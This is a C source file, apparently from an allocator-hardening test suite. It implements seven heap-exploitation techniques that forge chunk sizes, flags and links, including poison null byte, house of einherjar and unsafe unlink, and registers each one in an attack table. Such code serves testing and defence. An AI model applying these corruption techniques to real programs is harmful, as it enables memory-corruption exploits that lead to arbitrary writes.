/* Sizes and flags of a chunk, overwritten by a write that runs over the end of the block
 * before: neighbours are then looked for where there are none. */
#include "attack.h"

/* A free chunk seems to reach over the block behind it. */
static void overlapping_chunks(void) {
    void *before = take(1272);
    void *victim = take(1528);
    take(136);
    take(24);
    word *size = behind(before);
    give(victim);
    *size += 144;
    take(1528 + 144);
}

/* So does one in use, which is then given back. */
static void overlapping_chunks_2(void) {
    void *before = take(1272);
    void *victim = take(1528);
    take(136);
    take(24);
    *behind(before) += 144;
    give(victim);
    take(1528 + 144);
}

/* One byte too many, a zero as it ends strings, makes a free chunk smaller: who takes parts
 * of it does not tell the chunk behind, which still finds its start by the old size. */
static void poison_null_byte(void) {
    void *before = take(264);
    void *victim = take(2312);
    void *after = take(1288);
    take(24);
    word *size = behind(before);
    give(victim);
    *(char *)size = 0;
    void *low = take(1288);
    take(152); /* what is to be overlapped */
    give(low);
    give(after);
    take(3328);
}

/* The same byte says that the chunk before is free; and that chunk is a fake. */
static void house_of_einherjar(void) {
    struct filler filler = filler_take(248);
    word *fake = take(56);
    void *before = take(40);
    void *victim = take(248);
    take(24);
    if (fake == NULL || before == NULL || victim == NULL)
        return;
    word size = (word)chunk_of(victim) - (word)fake;
    fake[1] = size;
    fake[2] = fake[3] = (word)fake;
    *last_of(before) = size;
    *(char *)behind(before) = 0;
    filler_give(&filler);
    give(victim);
    take(344);
}

/* A fake chunk whose links lead to the program's own pointer to it: taken out of its list, it
 * makes the pointer point to itself, and through it the program writes anywhere. */
static void unsafe_unlink(void) {
    static word *pointer;
    pointer = take(1056);
    void *victim = take(1056);
    take(24);
    if (pointer == NULL || victim == NULL)
        return;
    word *last = last_of(pointer);
    pointer[1] = (word)last - (word)pointer;
    pointer[2] = (word)(&pointer - 3);
    pointer[3] = (word)(&pointer - 2);
    pointer[4] = 0;
    last[0] = pointer[1];
    last[1] ^= PREV_IN_USE;
    watch((const word *)(const void *)&pointer);
    give(victim);
}

/* Mappings have sizes in front of them, too, and the kernel places each below the last: one
 * is unmapped together with its neighbour, and the next takes the place of all. */
static void mmap_overlapping_chunks(void) {
    enum { SIZE = 1 << 20 };
    void *neighbour = take(SIZE);
    void *victim = take(SIZE);
    void *before = take(SIZE);
    if (neighbour == NULL || victim == NULL || before == NULL)
        return;
    word *overflow = behind(before);
    overflow[0] = 0;
    overflow[1] = 2 * (overflow[1] & ~(word)7) | IS_MAPPED;
    give(before);
    give(victim);
    take((size_t)3 * SIZE);
}

/* calloc does not clear what comes fresh from the kernel, and believes the chunk that it
 * does: the old contents come with the block. */
static void calloc_of_a_mapped_chunk(void) {
    struct filler filler = filler_take(88);
    void *before = take(88);
    word *victim = take(88);
    take(24);
    if (before == NULL || victim == NULL)
        return;
    victim[4] = 0x5ec7e7;
    word *size = behind(before);
    filler_give(&filler);
    give(victim);
    *size ^= IS_MAPPED;
    take_zeroed(88);
}

const struct attack attacks_sizes[] = {
    {"overlapping_chunks", overlapping_chunks},
    {"overlapping_chunks_2", overlapping_chunks_2},
    {"poison_null_byte", poison_null_byte},
    {"house_of_einherjar", house_of_einherjar},
    {"unsafe_unlink", unsafe_unlink},
    {"mmap_overlapping_chunks", mmap_overlapping_chunks},
    {"calloc_of_a_mapped_chunk", calloc_of_a_mapped_chunk},
    {NULL, NULL},
};
